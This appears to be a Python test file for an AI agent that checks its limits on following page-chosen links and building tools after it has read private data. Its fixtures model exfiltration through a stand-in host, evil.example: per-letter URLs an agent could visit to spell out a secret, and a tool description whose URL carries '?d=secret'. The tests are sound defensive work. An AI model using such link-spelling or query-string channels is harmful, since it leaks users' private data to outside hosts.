"""Runs that have read private data: whatever way it came in, few of the links that a page chose are followed."""

from __future__ import annotations

import string
from collections.abc import Callable
from typing import Any

from alita_mcp.agent.actions.abilities import ActionResult
from alita_mcp.agent.interface import Recalled
from alita_mcp.models.interface import Completion
from alita_mcp.research.values import Document, Link
from tests.agent.world import MemoryOfATest, PlainAbilities, World, call, calls, finish, world
from tests.tables import each_case

START = "https://evil.example/start"
LETTERS = [f"https://evil.example/letter/{letter}" for letter in string.ascii_lowercase]
SPELL = calls(*(("read_page", {"url": url}) for url in LETTERS))
READ = call("read_file", name="secret.txt")
RECALLED = Recalled(text="The answer was secret.", ids=("m1",))


async def answer(_question: str) -> str:
    return "The code is 4711."


def abilities(**changes: Any) -> PlainAbilities:
    links = tuple(Link(number=number, url=url, text="") for number, url in enumerate(LETTERS, 1))
    pages = {url: Document(url=url, links=links) for url in (START, *LETTERS)}
    return PlainAbilities(**{"pages": pages, "texts": {"secret.txt": "secret"}, **changes})


def granted(_code: str, _arguments: dict[str, Any]) -> ActionResult:
    return ActionResult(ok=False, error="secret", is_private=True)


def obey(*private: Completion, code: Any = None, **changes: Any) -> World:
    """A run that reads the page, then private data, and spells."""
    script = [call("read_page", url=START), *private, SPELL, finish("x", solved=False)]
    tools = {"reverse": lambda value: value[::-1]}
    return world(script, abilities(tools=tools, code=code), task=f"Read {START}", **changes)


def fetched(made: World) -> list[str]:
    return [url for name, url in made.abilities.asked if name == "fetch" and url != START]


@each_case(
    "way, make, most",
    [
        ("nothing private", obey, 26),
        ("a file", lambda: obey(READ), 5),
        ("an argument", lambda: obey(call("reverse", value={"$file": "secret.txt"})), 5),
        ("failed code", lambda: obey(call("run_code", code="1", reason="once"), code=granted), 5),
        ("an answer", lambda: obey(call("ask_person", question="Which code?"), ask=answer), 5),
        ("memory", lambda: obey(memory=MemoryOfATest(RECALLED)), 5),
    ],
)
async def test_few_links_are_followed(way: str, make: Callable[[], World], most: int) -> None:
    made = make()
    await made.solve()
    assert len(fetched(made)) == most, way


@each_case(
    "description, looks_up",
    [
        ("Adds numbers.", True),
        (f"Adds as {START} says.", True),
        (f"Adds as {START}?d=secret says.", False),
    ],
)
async def test_a_tool_is_built_without_looking_up_what_a_model_made_up(
    description: str, looks_up: bool
) -> None:
    async def yes(_question: str) -> str:
        return "Yes"

    build = call("build_tool", description=description, name="total", reason="again", looks_up=True)
    script = [build, READ, build, finish("x", solved=False)]
    made = world(script, abilities(), task=f"Read {START}", ask=yes)
    await made.solve()
    built = [request for name, request in made.abilities.asked if name == "build"]
    assert [request.looks_up for request in built] == [looks_up, False]


@each_case("said, description, is_made", [
    (None, "Adds.", False), ("no", "Adds.", False), ("yes", "Adds.", True), ("yes", f"Adds.{'x' * 2_000}", False),
])  # fmt: skip
async def test_a_tool_is_made_after_private_data_only_where_a_person_saw_and_approved_it(
    said: str | None, description: str, is_made: bool
) -> None:
    questions = []

    async def person(question: str) -> str | None:
        questions.append(question)
        return said

    build = call("build_tool", description=description, name="total", code="4711", reason="again")
    made = world([READ, build, finish("x", solved=False)], abilities(), ask=None if said is None else person)
    solution = await made.solve()
    assert (solution.tools_made == ("total",), solution.steps[1].ok) == (is_made, is_made)
    assert all("4711" in question for question in questions)
    assert is_made or "no person approved it" in solution.steps[1].observation
